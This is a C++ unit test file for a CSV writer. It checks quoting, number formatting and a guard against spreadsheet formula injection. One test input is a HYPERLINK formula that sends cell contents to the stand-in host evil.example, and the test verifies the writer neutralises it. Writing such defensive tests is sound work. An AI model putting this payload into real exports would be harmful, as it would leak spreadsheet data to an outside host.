#include "backend/data/csv_writer.h"

#include <catch2/catch.hpp>

#include <limits>
#include <string>
#include <string_view>

namespace stickyproxy::backend {
namespace {

TEST_CASE("rows are comma-separated and end with CRLF", "[data]") {
  CsvWriter csv;
  csv.field("WardName");
  csv.field("score");
  csv.endRow();
  csv.field("Dala, East");
  csv.number(0.5);
  csv.endRow();
  csv.field("");
  csv.number(size_t{42});
  csv.endRow();
  CHECK(csv.text() == "WardName,score\r\n\"Dala, East\",0.5\r\n,42\r\n");
  CHECK(std::move(csv).take() == "WardName,score\r\n\"Dala, East\",0.5\r\n,42\r\n");
}

TEST_CASE("numbers use the shortest text that reads back exactly", "[data]") {
  const auto written = [](double value) {
    CsvWriter csv;
    csv.number(value);
    return csv.text();
  };
  CHECK(written(0.1) == "0.1");
  CHECK(written(1.0) == "1");
  CHECK(written(1e-10) == "1e-10");
  CHECK(written(2.0 / 3.0) == "0.6666666666666666");
  CHECK(std::stod(written(2.0 / 3.0)) == 2.0 / 3.0);
  CHECK(written(-0.0) == "0");
  CHECK(written(-1.25) == "-1.25");
  CHECK(written(std::numeric_limits<double>::quiet_NaN()).empty());
}

TEST_CASE("text a spreadsheet would run as a formula gets a leading apostrophe", "[data]") {
  const auto written = [](std::string_view text) {
    CsvWriter csv;
    csv.field(text);
    return csv.text();
  };
  CHECK(written("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")") ==
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
  CHECK(written("-5 North") == "'-5 North");
  CHECK(written("+234 Road") == "'+234 Road");
  CHECK(written("@SUM(A1:A9)") == "'@SUM(A1:A9)");
  CHECK(written("\t=1+1") == "'\t=1+1");
  CHECK(written("\r=1+1") == "\"'\r=1+1\"");
  CHECK(written("=") == "'=");
  // Only the first character counts.
  CHECK(written("Gwale-North") == "Gwale-North");
  CHECK(written("a=b") == "a=b");
  CHECK(written(" =1") == " =1");
  CHECK(written("'quoted") == "'quoted");
  CHECK(written("") == "");
}

TEST_CASE("numbers are never guarded, negative ones included", "[data]") {
  CsvWriter csv;
  csv.field("-5 North");
  csv.number(-5.0);
  csv.number(-0.25);
  csv.number(-1e-10);
  csv.endRow();
  CHECK(csv.text() == "'-5 North,-5,-0.25,-1e-10\r\n");
}

}  // namespace
}  // namespace stickyproxy::backend
